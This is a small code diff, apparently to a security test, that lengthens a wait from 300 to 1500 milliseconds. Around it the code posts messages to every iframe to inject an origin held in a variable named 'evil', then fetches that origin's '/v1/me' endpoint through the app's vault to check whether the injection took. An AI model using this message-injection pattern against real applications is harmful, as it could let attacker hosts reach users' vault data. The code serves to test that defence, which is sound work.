@@ -26,7 +26,7 @@ export default {
     for (const frame of document.querySelectorAll("iframe")) {
       frame.contentWindow.postMessage({ resources: [{ origin: evil }] }, "*", [new MessageChannel().port2]);
     }
-    await new Promise((resolve) => setTimeout(resolve, 300));
+    await new Promise((resolve) => setTimeout(resolve, 1500));
     heard.push(
       await app.vault.fetch(`${evil}/v1/me`).then(
         (response) => response.status,
